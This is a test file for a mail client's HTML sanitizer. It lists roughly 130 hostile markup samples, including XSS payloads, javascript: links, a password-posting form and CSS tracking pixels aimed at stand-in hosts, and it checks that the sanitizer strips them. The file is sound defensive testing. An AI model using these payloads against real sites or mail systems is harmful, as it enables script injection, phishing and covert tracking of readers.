"""HTML of mail from people who mean harm, and from those who do not."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mail.reading.html import MAX_ELEMENTS, MAX_HTML, MAX_REFERENCES, clean_html

PARTS = {"logo@outside.test": "/api/v1/mail/messages/box-1/parts/2"}
TRACKER = "https://track.outside.test/p.gif"

HOSTILE = [
    # What runs.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1em>x</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a>x</a>",
    "<svg><image href='https://track.outside.test/p.gif'/></svg>",
    "<svg><style>@import 'https://track.outside.test/x.css'</style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://track.outside.test/a.mp3 autoplay>",
    "<video poster=https://track.outside.test/p.gif></video>",
    "<object data=https://evil.test/x.swf></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=https://evil.test/x.swf>",
    "<applet code=evil></applet>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.test></frameset>",
    "<portal src=https://evil.test></portal>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    # Links that run, or that lead within.
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "<a href='blob:https://evil.test/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:logo@outside.test'>x</a>",
    "<a href='/account/logout/'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='\\\\evil.test'>x</a>",
    "<a href=x ping=https://track.outside.test>x</a>",
    "<a target=_top href=https://evil.test>x</a>",
    "<a target=_self href=https://evil.test rel=opener>x</a>",
    "<area href=javascript:alert(1)>",
    "<map name=m><area href=https://evil.test></map><img usemap=#m>",
    # What sends, leads away, or changes the page around it.
    "<form action=https://evil.test><input name=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.test/>",
    "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href=https://track.outside.test/x.css>",
    "<link rel=dns-prefetch href=//track.outside.test>",
    "<link rel=prefetch href=https://track.outside.test>",
    "<p id=csrf name=cookie class=admin>x</p>",
    "<a id=x name=y href=https://a.test>x</a>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='position:absolute;z-index:9999'>x</p>",
    "<p style='margin-top:-500px'>x</p>",
    "<p style='transform:translateY(-500px)'>x</p>",
    # What tells its server that somebody reads.
    f"<img src={TRACKER}>",
    f"<img src='{TRACKER}' width=1 height=1>",
    "<img src=//track.outside.test/p.gif>",
    "<img src='\\\\track.outside.test/p.gif'>",
    "<img src='https:\n//track.outside.test/p.gif'>",
    "<img src='ht&#10;tps://track.outside.test/p.gif'>",
    "<img src=' https://track.outside.test/p.gif'>",
    "<img src=https:\\\\track.outside.test/p.gif>",
    "<img src='/account/logout/'>",
    "<img src='api/v1/me'>",
    "<img src='ftp://track.outside.test/p.gif'>",
    "<img src=x srcset='https://track.outside.test/p.gif 2x'>",
    "<picture><source srcset=https://track.outside.test/p.gif><img></picture>",
    "<img lowsrc=https://track.outside.test/p.gif dynsrc=https://track.outside.test/p.gif>",
    "<img longdesc=https://track.outside.test/p.gif>",
    "<input type=image src=https://track.outside.test/p.gif>",
    "<body background=https://track.outside.test/p.gif>",
    "<table background=https://track.outside.test/p.gif><td background=//track.outside.test/p>x",
    "<p style='background:url(https://track.outside.test/p.gif)'>x</p>",
    "<p style='background-image: URL (\"https://track.outside.test/p.gif\")'>x</p>",
    "<p style='background:u\\72l(https://track.outside.test/p.gif)'>x</p>",
    "<p style='background:\\75\\72\\6C(https://track.outside.test/p.gif)'>x</p>",
    "<p style='background:u/**/rl(https://track.outside.test/p.gif)'>x</p>",
    "<p style='list-style:url(https://track.outside.test/p.gif)'>x</p>",
    "<p style='cursor:url(https://track.outside.test/p.gif)'>x</p>",
    "<p style='content:image-set(\"https://track.outside.test/p.gif\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(\"https://track.outside.test/p.gif\" 1x)'>x</p>",
    "<p style='font-family:x;src:url(https://track.outside.test/f.woff)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#x)'>x</p>",
    "<p style='-moz-binding:url(https://evil.test/x.xml#x)'>x</p>",
    "<p style='color:var(--x);--x:url(https://track.outside.test/p.gif)'>x</p>",
    "<style>@import url(https://track.outside.test/x.css);</style>",
    "<style>body{background:url(https://track.outside.test/p.gif)}</style>",
    "<style>@font-face{font-family:x;src:url(https://track.outside.test/f)}</style>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,AA\" onerror=\"alert(1)'>",
    "<img src='cid:unknown@outside.test'>",
    "<img src='cid:https://track.outside.test/p.gif'>",
    "<bgsound src=https://track.outside.test/a.wav>",
    "<image src=https://track.outside.test/p.gif>",
]
ALLOWED_SOURCES = re.compile(r"/api/v1/mail/messages/|data:image/(png|gif|jpe?g|webp);base64,")
FORBIDDEN_ATTRIBUTES = {
    "id", "name", "class", "background", "srcset", "action", "formaction", "ping", "usemap",
    "poster", "lowsrc", "dynsrc", "longdesc", "xlink:href", "http-equiv", "content", "srcdoc",
}  # fmt: skip
ALLOWED_TAGS = frozenset(
    re.findall(
        r"\w+",
        "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code"
        " col colgroup dd del details dfn dir div dl dt em figcaption figure font footer h1 h2 h3"
        " h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section"
        " small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr",
    )
)


class Examiner(HTMLParser):
    """Looks at what is left with another reader than the one that cleaned it."""

    def __init__(self, *, remote: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.remote = remote
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.faults.append(f"<{tag}>")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.faults.append(f"{tag} has an attribute twice")
        for name, value in attrs:
            self.examine(tag, name, value or "")

    def examine(self, tag: str, name: str, value: str) -> None:
        text = value.lower()
        fault = name.startswith("on") or name in FORBIDDEN_ATTRIBUTES
        if name == "src":
            allowed = ALLOWED_SOURCES.match(text) or (self.remote and text.startswith("http"))
            fault = fault or tag != "img" or not allowed
        elif name == "href":
            fault = fault or not re.match(r"https?://\w|mailto:|tel:", text)
        elif name == "style":
            words = ("url", "\\", "expression", "import", "position", "image", "var(", "/*")
            fault = fault or any(word in text for word in words)
        elif name == "target":
            fault = fault or value != "_blank"
        elif name == "rel":
            fault = fault or value != "noopener noreferrer nofollow"
        if fault:
            self.faults.append(f"{tag} {name}={value!r}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"an instruction: {data}")


def faults_of(html: str, *, remote: bool = False) -> list[str]:
    examiner = Examiner(remote=remote)
    examiner.feed(html)
    examiner.close()
    return examiner.faults


@pytest.mark.parametrize("markup", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "<table><tr><td>{}", "<a href='x\"{}'>{}</a>", "<b>{}<p>"]
)
def test_nothing_hostile_is_left(markup: str, around: str) -> None:
    for remote in (False, True):
        cleaned = clean_html(around.replace("{}", markup), PARTS, remote=remote)
        assert faults_of(cleaned.html, remote=remote) == []
        again = clean_html(cleaned.html, PARTS, remote=remote)
        assert faults_of(again.html, remote=remote) == []
        if not remote:
            assert not re.search(r"<[^>]*track\.outside\.test", cleaned.html)


def test_the_examiner_finds_what_is_hostile() -> None:
    """Of what is handed in raw, nearly everything is found: what is not, does nothing alone."""
    harmless = [markup for markup in HOSTILE if not faults_of(markup)]
    assert len(harmless) <= 12, harmless


@pytest.mark.parametrize(
    ("markup", "blocked"),
    [
        (f"<img src={TRACKER}>", 1),
        ("<img src=//track.outside.test/p.gif>", 1),
        (f"<img src={TRACKER}><img src={TRACKER}>", 2),
        (f"<img srcset='{TRACKER} 2x'>", 1),
        (f"<td background={TRACKER}>", 0),
        (f"<table background={TRACKER}></table>", 1),
        (f"<p style='background:url({TRACKER})'>x</p>", 1),
        ("<p style='background:u\\72l(x)'>x</p>", 1),
        ("<p style='color:red'>x</p>", 0),
        ("<img src='cid:logo@outside.test'>", 0),
        ("<img src='data:image/png;base64,AAAA'>", 0),
        ("<a href=https://example.test>x</a>", 0),
    ],
)
def test_what_would_have_been_fetched_is_counted(markup: str, blocked: int) -> None:
    assert clean_html(markup, PARTS).blocked == blocked


def test_pictures_of_other_servers_are_shown_to_those_who_ask_and_without_where_from() -> None:
    cleaned = clean_html(f"<img src='{TRACKER}' alt=x>", PARTS, remote=True)
    assert TRACKER in cleaned.html
    assert 'referrerpolicy="no-referrer"' in cleaned.html
    assert cleaned.blocked == 0
    styled = clean_html(f"<p style='background:url({TRACKER})'>x</p>", PARTS, remote=True)
    assert TRACKER not in styled.html
    assert styled.blocked == 1


@pytest.mark.parametrize(
    "address", ["cid:logo@outside.test", "CID:logo@outside.test", "cid:logo%40outside.test"]
)
def test_pictures_of_the_message_lead_to_its_parts(address: str) -> None:
    cleaned = clean_html(f"<img src='{address}'>", PARTS)
    assert f'src="{PARTS["logo@outside.test"]}"' in cleaned.html


def test_a_picture_within_the_markup_stays() -> None:
    markup = "<img src='data:image/png;base64,iVBORw0KGgo='>"
    assert "data:image/png;base64,iVBORw0KGgo=" in clean_html(markup, {}).html


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        ("https://example.test/a?b=c&amp;d=e#f", "https://example.test/a?b=c&amp;d=e#f"),
        ("HTTP://example.test", "HTTP://example.test"),
        ("mailto:ann@example.test?subject=x", "mailto:ann@example.test?subject=x"),
        ("tel:+49301234", "tel:+49301234"),
        (" https://example.test ", "https://example.test"),
    ],
)
def test_links_open_elsewhere_and_tell_nothing(link: str, kept: str) -> None:
    html = clean_html(f"<a href='{link}'>x</a>", {}).html
    assert f'href="{kept}"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_what_a_newsletter_is_made_of_stays() -> None:
    markup = (
        "<html><head><title>News</title><style>p{color:red}</style></head><body bgcolor=#fff>"
        '<table width="600" cellpadding="0" bgcolor="#eeeeee"><tr><td align="center"'
        " style=\"padding: 10px; font-family: 'Open Sans', Arial; color: rgb(1, 2, 3)\">"
        '<h1 style="margin:0;background:#fafafa">Hello</h1><p dir="rtl">x<br><b>y</b></p>'
        "<ul><li>z</li></ul><hr></td></tr></table></body></html>"
    )
    html = clean_html(markup, {}).html
    assert "News" not in html
    assert "color:red" not in html
    for kept in (
        '<table width="600" cellpadding="0" bgcolor="#eeeeee">',
        "padding: 10px; font-family: 'Open Sans', Arial; color: rgb(1, 2, 3)",
        "margin: 0; background-color: #fafafa",
        '<p dir="rtl">x<br><b>y</b></p>',
        "<ul><li>z</li></ul><hr>",
    ):
        assert kept in html


def test_what_is_too_long_is_shown_as_far_as_that() -> None:
    assert clean_html("x" * MAX_HTML, {}).is_cut is False
    cleaned = clean_html("x" * (MAX_HTML + 1), {})
    assert cleaned.is_cut
    assert len(cleaned.html) == MAX_HTML
    assert clean_html("<br>" * MAX_ELEMENTS, {}).is_cut is False
    cleaned = clean_html("<br>" * (MAX_ELEMENTS + 1), {})
    assert cleaned.is_cut
    assert cleaned.html.count("<br>") == MAX_ELEMENTS
    assert clean_html("&amp;" * MAX_REFERENCES, {}).is_cut is False
    assert clean_html("&amp;" * (MAX_REFERENCES + 1), {}).is_cut


def test_marks_are_plain_where_html_would_open_them_again_and_again() -> None:
    marks = "".join(f"<font color={n}>" for n in range(500))
    html = clean_html(f"<p>{marks}</p>" + "<p>x" * 2_000, {}).html
    assert "<font" not in html
    assert html.count("<span>") == 500
    assert "<font" in clean_html(f"<p>{marks}</p>" + "<p>x" * 100, {}).html


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 500_000,
        "<ul><li>" * 250_000,
        "<table>x" * 250_000,
        "<a href=x><div>" * 100_000,
        "<p>" + "".join(f"<font color={n}>" for n in range(5_000)) + "</p>" + "<p>x" * 250_000,
        "<" * MAX_HTML,
        "<a " * 500_000,
        "<!--" * 500_000,
        "&" * MAX_HTML,
        "x&y=1" * 40_000 + "x" * 1_800_000,
        "x" * 1_800_000 + "x&y=1" * 40_000,
        "<p style='" + "a:b;" * 500_000,
        "<img src='" + " " * MAX_HTML,
        "<img src='data:image/png;base64," + " " * MAX_HTML,
    ],
    ids=lambda markup: markup[:12],
)
def test_whatever_is_sent_costs_a_bounded_time(markup: str) -> None:
    begin = time.process_time()
    assert faults_of(clean_html(markup, {}).html[:10_000]) == []
    assert time.process_time() - begin < 8


@given(
    st.lists(
        st.sampled_from(HOSTILE) | st.text(max_size=8) | st.sampled_from(list("<>\"'=/&; ")),
        max_size=8,
    ).map("".join)
)
def test_no_mixture_leaves_anything_hostile(markup: str) -> None:
    assert faults_of(clean_html(markup, PARTS).html) == []
